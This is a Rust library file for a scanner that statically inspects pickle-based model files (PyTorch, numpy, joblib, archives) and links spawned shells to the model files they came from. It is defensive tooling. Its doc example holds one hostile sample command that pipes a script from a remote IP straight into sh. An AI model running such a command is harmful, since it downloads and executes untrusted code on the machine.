//! Static scanner for model files that Python loads with `pickle`: raw pickles (protocols 0–5,
//! concatenated), PyTorch zip and legacy checkpoints, numpy `.npy`/`.npz`, joblib dumps (plain,
//! zlib, gzip, bz2, xz/lzma), tar and 7z archives, and pickles nested inside pickles.
//!
//! Nothing is ever unpickled or imported. Each file is recognised by content and read the way
//! its loader reads it; every pickle stream is walked opcode by opcode, resolving globals,
//! the memo, `EXT` codes and calls, and every global is judged:
//!
//! * [`Verdict::Safe`]: allowlisted ML globals only (torch rebuild helpers, `OrderedDict`, numpy
//!   reconstruct functions, ...);
//! * [`Verdict::Suspicious`]: imports that are not on the allowlist;
//! * [`Verdict::Dangerous`]: globals that run code or reach the system.
//!
//! A truncated or broken stream is judged by everything before the break, since the real
//! unpickler has already run it; the break itself is reported in [`FileReport::errors`] with its
//! member and byte offset. Bad input never panics.
//!
//! # API
//!
//! * [`scan_path`]`(&Path) -> FileReport` — one file (memory-mapped; only the bytes of
//!   pickle-bearing members are touched, so a large checkpoint costs about as much as its
//!   `data.pkl`).
//! * [`scan_bytes`]`(name, &[u8]) -> FileReport` — an in-memory buffer.
//! * [`scan_paths`]`(&[PathBuf], jobs) -> Vec<FileReport>` — files and directories (recursive),
//!   in parallel on `jobs` threads (0 = all cores).
//! * [`collect_files`] and [`scan_files`] — the same in two steps, with a progress callback.
//! * [`FileReport::literals_in`] — which of the file's string literals occur in a command line
//!   (ties a spawned shell to the model file it came from).
//! * [`FileReport::is_model`] — whether the file held any pickle or model container at all
//!   (most files a Python process opens are not models).
//! * [`ScanCache`] — reports cached by path, size and mtime, for alert linking.
//! * [`Limits`] and the `*_with` variants ([`scan_bytes_with`], [`scan_path_with`],
//!   [`scan_files_with`]) — the per-file work budget of the full opcode walk (default
//!   [`DEFAULT_MAX_WALK_OPCODES`] opcodes and [`DEFAULT_MAX_WALK_TIME`]). A file whose walk
//!   runs out of budget gets an error and a suspicious `<scan budget exceeded>` finding: it is
//!   never reported safe.
//!
//! # Example: tie a shell spawned by python to the model files it had open
//!
//! ```no_run
//! use spawnguard_scan::{ScanCache, Verdict};
//! let cache = ScanCache::new(4096);
//! let open_files = ["/models/resnet.pt", "/usr/lib/python3.11/os.py"];
//! let shell_cmdline = "sh -c curl -s http://203.0.113.7/x.sh | sh";
//! for f in open_files {
//!     let r = cache.scan(std::path::Path::new(f));
//!     if r.is_model() {
//!         let tied = r.literals_in(shell_cmdline, 6);
//!         println!("{}: {} {:?}", r.path, r.verdict, tied);
//!         let _ = r.verdict >= Verdict::Dangerous;
//!     }
//! }
//! ```

mod archive;
mod cache;
mod ctx;
mod formats;
mod pickle;
mod policy;
mod report;
mod zip;

use std::path::{Path, PathBuf};

pub use cache::ScanCache;
pub use ctx::{
    Limits, BUDGET_FINDING, DEFAULT_MAX_WALK_OPCODES, DEFAULT_MAX_WALK_TIME, MAX_DEPTH,
    MAX_FINDINGS, MAX_INFLATE, MAX_LITERALS,
};
pub use policy::classify;
pub use report::{FileReport, Finding, ScanError, Verdict};

/// Scans an in-memory buffer. `name` is used as the report's `path`.
pub fn scan_bytes(name: &str, data: &[u8]) -> FileReport {
    scan_bytes_with(name, data, &Limits::default())
}

/// [`scan_bytes`] with a work budget other than the default.
pub fn scan_bytes_with(name: &str, data: &[u8], limits: &Limits) -> FileReport {
    let mut ctx = ctx::Ctx::new(FileReport::new(name, data.len() as u64));
    ctx.limits = *limits;
    formats::scan_content(&mut ctx, data, "", 0, false);
    ctx.finish()
}

/// [`scan_bytes`] without the fast path: every pickle stream gets the full walk. Same results
/// (the full walk runs under the default [`Limits`], so a stream big enough to exceed them is
/// cut short here where the fast path would not be); exposed for differential tests and
/// benchmarks.
#[doc(hidden)]
pub fn scan_bytes_full_walk(name: &str, data: &[u8]) -> FileReport {
    let mut ctx = ctx::Ctx::new(FileReport::new(name, data.len() as u64));
    ctx.full_walk_only = true;
    formats::scan_content(&mut ctx, data, "", 0, false);
    ctx.finish()
}

/// Scans one file. Problems opening or mapping it are reported in [`FileReport::errors`].
pub fn scan_path(path: &Path) -> FileReport {
    scan_path_with(path, &Limits::default())
}

/// [`scan_path`] with a work budget other than the default.
pub fn scan_path_with(path: &Path, limits: &Limits) -> FileReport {
    let name = path.display().to_string();
    let file = match std::fs::File::open(path) {
        Ok(f) => f,
        Err(e) => return error_report(&name, format!("cannot open: {e}")),
    };
    let len = match file.metadata() {
        Ok(m) if m.is_dir() => return error_report(&name, "is a directory".into()),
        Ok(m) => m.len(),
        Err(e) => return error_report(&name, format!("cannot stat: {e}")),
    };
    if len == 0 {
        return scan_bytes_with(&name, &[], limits);
    }
    // SAFETY: the map is read-only and private to this call. If another process truncates the
    // file while we read it, the kernel may deliver SIGBUS; that is the documented memmap
    // caveat, accepted here as for any mmap-based reader.
    let map = match unsafe { memmap2::Mmap::map(&file) } {
        Ok(m) => m,
        Err(_) => {
            // e.g. a pipe or a special file: fall back to reading it
            return match std::fs::read(path) {
                Ok(buf) => scan_bytes_with(&name, &buf, limits),
                Err(e) => error_report(&name, format!("cannot read: {e}")),
            };
        }
    };
    #[cfg(unix)]
    let _ = map.advise(memmap2::Advice::Random);
    scan_bytes_with(&name, &map, limits)
}

fn error_report(name: &str, message: String) -> FileReport {
    let mut r = FileReport::new(name, 0);
    r.errors.push(ScanError {
        member: String::new(),
        offset: 0,
        message,
    });
    r
}

/// Expands `paths` into the files to scan: files as given, directories recursively (sorted,
/// symlinked directories not followed). Unreadable paths come back as reports with an error.
pub fn collect_files(paths: &[PathBuf]) -> (Vec<PathBuf>, Vec<FileReport>) {
    let mut files = Vec::new();
    let mut bad = Vec::new();
    for p in paths {
        walk(p, &mut files, &mut bad, true);
    }
    (files, bad)
}

fn walk(p: &Path, files: &mut Vec<PathBuf>, bad: &mut Vec<FileReport>, top: bool) {
    let meta = if top {
        std::fs::metadata(p)
    } else {
        std::fs::symlink_metadata(p)
    };
    match meta {
        Err(e) => bad.push(error_report(
            &p.display().to_string(),
            format!("cannot access: {e}"),
        )),
        Ok(m) if m.is_dir() => match std::fs::read_dir(p) {
            Err(e) => bad.push(error_report(
                &p.display().to_string(),
                format!("cannot list directory: {e}"),
            )),
            Ok(rd) => {
                let mut kids: Vec<PathBuf> = Vec::new();
                for ent in rd {
                    match ent {
                        Ok(e) => kids.push(e.path()),
                        Err(e) => bad.push(error_report(
                            &p.display().to_string(),
                            format!("cannot list directory: {e}"),
                        )),
                    }
                }
                kids.sort();
                for k in kids {
                    walk(&k, files, bad, false);
                }
            }
        },
        Ok(m) if m.file_type().is_symlink() => {
            // a symlink inside a directory: follow it only to a regular file
            if std::fs::metadata(p).map(|t| t.is_file()).unwrap_or(false) {
                files.push(p.to_path_buf());
            }
        }
        Ok(m) if m.is_file() => files.push(p.to_path_buf()),
        Ok(_) => {} // sockets, fifos, devices: not model files
    }
}

/// Scans `files` in parallel on `jobs` threads (0 = one per core), calling `progress` after
/// each file. Reports come back in the order of `files`.
pub fn scan_files(
    files: &[PathBuf],
    jobs: usize,
    progress: &(dyn Fn(&FileReport) + Sync),
) -> Vec<FileReport> {
    scan_files_with(files, jobs, progress, &Limits::default())
}

/// [`scan_files`] with a per-file work budget other than the default.
pub fn scan_files_with(
    files: &[PathBuf],
    jobs: usize,
    progress: &(dyn Fn(&FileReport) + Sync),
    limits: &Limits,
) -> Vec<FileReport> {
    use rayon::prelude::*;
    let run = || {
        files
            .par_iter()
            .map(|f| {
                let r = scan_path_with(f, limits);
                progress(&r);
                r
            })
            .collect()
    };
    match rayon::ThreadPoolBuilder::new().num_threads(jobs).build() {
        Ok(pool) => pool.install(run),
        Err(_) => run(),
    }
}

/// Scans files and directories (recursively) in parallel; see [`collect_files`] and
/// [`scan_files`]. Unreadable paths are included as reports carrying an error.
pub fn scan_paths(paths: &[PathBuf], jobs: usize) -> Vec<FileReport> {
    let (files, mut bad) = collect_files(paths);
    let mut out = scan_files(&files, jobs, &|_| {});
    out.append(&mut bad);
    out
}
